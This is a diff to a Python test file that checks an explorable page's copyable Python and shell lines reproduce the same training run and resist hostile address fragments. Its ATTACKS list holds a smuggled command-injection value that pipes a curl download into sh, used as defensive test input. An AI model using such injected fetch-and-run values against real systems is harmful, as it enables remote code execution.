@@ -1,12 +1,14 @@
-"""The address of the explorable page: whatever stands in it, the lines to copy hold nothing but settings."""
+"""The address of the explorable page, and the lines to copy: they make the same run."""
 
+import json
 import re
 import shlex
 
+import pytest
 from typer.testing import CliRunner
 
 from sterling.cli.verbs import app
-from tests.browsing import visit
+from tests.browsing import look, text, visit
 
 ATTACKS = (
     "#n=4&samples=50&schedule=power:0.5,0.5:;curl%20x|sh%0A",
@@ -51,10 +53,7 @@ FUZZ = """
 """
 
 
-def test_hostile_addresses_leave_the_lines_clean(driver, tmp_path):
-    from sterling.report.explore import write_explorable
-
-    address = write_explorable(tmp_path / "explore.html").as_uri()
+def test_hostile_addresses_leave_the_lines_clean(driver, address):
     for attack in ATTACKS:
         visit(driver, address + attack)
         line = driver.find_element("id", "shell").text
@@ -76,3 +75,79 @@ def test_hostile_addresses_leave_the_lines_clean(driver, tmp_path):
             app, ["train", *(word for pair in options.items() for word in pair), "--quiet"]
         )
         assert done.exit_code == 0, (line, done.output)
+
+
+def test_an_address_that_makes_no_sense_does_no_harm(driver, address):
+    look(driver, "light", 1280)
+    driver.get_log("browser")
+    visit(
+        driver,
+        f"{address}#n=1e9&samples=-3&noise=<b>&surrogate=sigmoid&schedule=power:9e9,9&story=77&at=x&seed=1.5",
+    )
+    settings = driver.execute_script("return sterling.page.settings")
+    assert settings["n"] == 12
+    assert settings["surrogate"] == "relu"
+    visit(driver, f"{address}#n=256&samples=99999&m=8&noise=0")
+    settings = driver.execute_script("return sterling.page.settings")
+    assert settings["n"] * settings["samples"] * settings["m"] <= 1 << 23
+    assert driver.get_log("browser") == []
+
+
+@pytest.mark.parametrize("step", range(1, 6))
+def test_lines_beside_a_state_make_the_same_run(driver, address, step):
+    """The page at a state of the story, what it shows there, and both of its lines, carried out."""
+    look(driver, "light", 1280)
+    visit(driver, f"{address}#story={step}&at=1500")
+    shown = driver.execute_script("return sterling.page.run.visited()")
+    latent = driver.execute_script("return [...sterling.page.run.latents()]")
+    assert text(driver, "#clock") == "1,500"
+    assert "at=1500" in driver.current_url
+    namespace = {}
+    exec(text(driver, "#python"), namespace)
+    orbit = namespace["orbit"]
+    assert orbit.steps == 1500
+    assert orbit.latent.tolist() == latent
+    assert text(driver, "#is-last") == f"{orbit.errors} of {orbit.n}"
+    assert text(driver, "#is-average") == f"{orbit.ergodic_errors} of {orbit.n}"
+    assert text(driver, "#is-occupancy") == f"{100 * orbit.occupancy:.1f} %"
+    assert text(driver, "#is-returns") == f"{len(orbit.return_times):,}"
+    program, *words = shlex.split(text(driver, "#shell"))
+    assert program == "sterling"
+    result = CliRunner().invoke(app, [*words, "--json", "--quiet"])
+    assert result.exit_code == 0, result.output
+    summary = json.loads(result.stdout)
+    assert (summary["visits"], summary["errors"]) == (shown["visits"], orbit.errors)
+    assert summary["verdict"] == orbit.verdict.name
+
+
+@pytest.mark.parametrize(
+    "settings",
+    [
+        {"m": 3, "surrogate": "hard_tanh", "schedule": "constant:0.05", "restart": "300,0.1"},
+        {"surrogate": "identity", "schedule": "table:0.5,0.25,0.1", "noise": 0, "init": 12},
+    ],
+)
+def test_lines_hold_every_setting(driver, address, settings):
+    visit(driver, address)
+    script = """
+        const settings = {...sterling.storySettings(1), ...arguments[0]};
+        return [sterling.pythonLine(settings, 1234567), sterling.shellLine(settings, 1234567)];
+    """
+    python, shell = driver.execute_script(script, settings)
+    namespace = {}
+    exec(python.replace("1_234_567", "500"), namespace)
+    result = CliRunner().invoke(app, [*shlex.split(shell.replace("1234567", "500"))[1:], "--json", "--quiet"])
+    summary, orbit = json.loads(result.stdout), namespace["orbit"]
+    for name in (
+        "occupancy",
+        "visits",
+        "errors",
+        "ergodic_errors",
+        "schedule",
+        "restart",
+        "surrogate",
+        "steps",
+    ):
+        assert summary[name] == orbit.to_dict()[name], name
+    assert summary["surrogate"] == settings["surrogate"]
+    assert (summary["restart"] is not None) == ("restart" in settings)
